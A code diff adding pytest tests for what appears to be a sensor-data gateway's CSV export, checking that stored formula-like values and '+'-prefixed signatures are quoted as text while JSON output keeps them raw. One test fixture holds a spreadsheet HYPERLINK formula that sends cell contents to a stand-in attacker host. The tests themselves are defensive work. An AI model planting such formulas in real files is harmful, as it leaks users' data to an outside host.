@@ -362,3 +362,73 @@ def test_calibrate_apply_on_an_export_reproduces_the_stored_values(influx: Influ
     rows = list(csv.DictReader(recomputed.open(newline="")))
     assert len(rows) == 40
     assert all(r["value"] == r["pm2_5"] and r["cal"] == r["pm2_5_cal"] for r in rows)
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"calibration")'
+
+
+def test_a_formula_stored_before_the_contract_refused_it_is_exported_as_text(
+    influx: Influx, tmp_path: Path
+) -> None:
+    """Old data written directly to InfluxDB: the text cell gets its quote, numbers (negative
+    temperatures too) stay numbers, and the JSON Lines keep the stored text."""
+    ts = regdata.DAY0 + timedelta(minutes=1)
+    metrics: dict[str, tuple[float | None, float | None, int, str | None]] = {
+        "pm2_5": (12.5, 14.0, 60, FORMULA),
+        "air_temp": (-5.2, -5.0, 60, "@SUM(A1:A9)"),
+    }
+    influx.write([regdata.reading_line("haul-road", ts, 1, metrics, flags="-1+1")])
+    config = regdata.gateway_config(tmp_path / "gateway.toml", influx)
+    out = tmp_path / "old.csv"
+    assert _export(config, out, "--metrics", "pm2_5,air_temp") == 0
+    with out.open(newline="", encoding="utf-8") as fh:
+        (row,) = list(csv.DictReader(fh))
+    assert row["pm2_5_cal"] == "'" + FORMULA and row["air_temp_cal"] == "'@SUM(A1:A9)"
+    assert row["flags"] == "'-1+1"
+    assert (row["air_temp"], row["air_temp_raw"], row["pm2_5"]) == ("-5.2", "-5.0", "12.5")
+    jsonl = tmp_path / "old.jsonl"
+    assert _export(config, jsonl, "--metrics", "pm2_5,air_temp", "--format", "jsonl") == 0
+    (doc,) = [json.loads(line) for line in jsonl.read_text().splitlines()]
+    assert doc["pm2_5_cal"] == FORMULA and doc["air_temp"] == -5.2  # JSON is no spreadsheet
+
+
+def test_a_signature_starting_with_plus_is_quoted_in_the_csv_and_still_verifies(
+    influx: Influx, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    from contract.signing import Signer
+    from contract.wire import ReadingPayload
+    from gateway.points import to_line
+    from gateway.trust.provision import register
+
+    signer = Signer.from_seed(bytes(range(32)))
+    keys = tmp_path / "keys"
+    keys.mkdir()
+    register(keys, regdata.SITE, "haul-road", signer, now=regdata.DAY0)
+    seq = 114  # Ed25519 is deterministic: this reading's base64 signature starts with "+"
+    reading = signer.sign(
+        ReadingPayload.model_validate(
+            {
+                "schema": 1,
+                "site": regdata.SITE,
+                "node": "haul-road",
+                "seq": seq,
+                "ts": regdata.DAY0 + timedelta(minutes=seq),
+                "period_s": 60,
+                "metrics": {
+                    "pm2_5": {"value": 10.0 + seq / 3, "raw": 11.1 * seq, "n": 60, "cal": "pms-a@2026-10-01"},
+                    "rh": {"value": 41.25, "n": 60},
+                },
+                "flags": [],
+            }
+        )
+    )
+    assert reading.sig is not None and reading.sig.startswith("+")
+    influx.write([to_line(reading)])
+    config = regdata.gateway_config(tmp_path / "gateway.toml", influx)
+    out = tmp_path / "signed.csv"
+    assert _export(config, out) == 0
+    (row,) = list(csv.DictReader(out.open(newline="")))
+    assert row["sig"] == "'" + reading.sig  # a spreadsheet shows it as text
+    capsys.readouterr()
+    assert main(["verify", "--input", str(out), "--keys", str(keys)]) == 0
+    assert "1 rows: 1 verified" in capsys.readouterr().out
